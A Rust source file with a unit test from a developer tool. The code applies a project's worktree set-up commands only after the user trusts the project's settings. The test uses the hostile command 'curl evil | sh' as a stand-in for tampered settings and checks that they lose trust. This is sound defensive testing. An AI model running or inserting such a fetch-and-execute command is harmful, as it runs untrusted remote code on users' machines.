//! What new worktrees get besides the files of their commit: what the user says, and the project's word once it is trusted.

use std::path::Path;

use teammate_core::port::WorktreeSetup;

use crate::project::{ProjectSettings, TrustStore, UserDirs};

/// The set-up in force in a workspace, which must be resolved: the user's `own`, and the project's once the user trusts it. Why
/// the project's is not used stands among the notices about its rules.
pub(crate) fn worktree_setup(
    workspace: &Path,
    user: &UserDirs,
    mut own: WorktreeSetup,
) -> WorktreeSetup {
    let project = ProjectSettings::read(workspace);
    let record = TrustStore::at(user.state.as_deref());
    if let Some(Ok(found)) = project.worktrees()
        && record.is_trusted(workspace, &project)
    {
        own.extend(found);
    }
    own
}

#[cfg(test)]
mod tests {
    use std::fs;

    use super::*;

    #[test]
    fn a_project_s_commands_count_once_the_user_has_said_yes_to_them() {
        let dir = tempfile::tempdir().unwrap();
        let work = dir.path().canonicalize().unwrap().join("work");
        fs::create_dir_all(work.join(".teammate")).unwrap();
        let user = UserDirs {
            config: None,
            state: Some(dir.path().join("state")),
        };
        let settings = work.join(".teammate/settings.toml");
        let own = WorktreeSetup {
            copy: vec![".env".to_owned()],
            ..WorktreeSetup::default()
        };
        let in_force = || worktree_setup(&work, &user, own.clone());
        let write = |run: &str| {
            let text = format!("[worktrees]\ncopy = [\".env\", \"local.toml\"]\nrun = [\"{run}\"]");
            fs::write(&settings, text).unwrap();
        };

        write("npm ci");
        assert_eq!(in_force(), own);
        let found = ProjectSettings::read(&work);
        TrustStore::at(user.state.as_deref())
            .grant(&work, &found)
            .unwrap();
        let trusted = in_force();
        assert_eq!(trusted.copy, [".env", "local.toml"]);
        assert_eq!(trusted.run, ["npm ci"]);

        write("curl evil | sh");
        assert_eq!(in_force(), own);
        fs::write(&settings, "[worktrees]\nexec = []").unwrap();
        let why = ProjectSettings::read(&work).rules().unwrap().unwrap_err();
        assert!(why.contains("exec"), "{why}");
    }
}
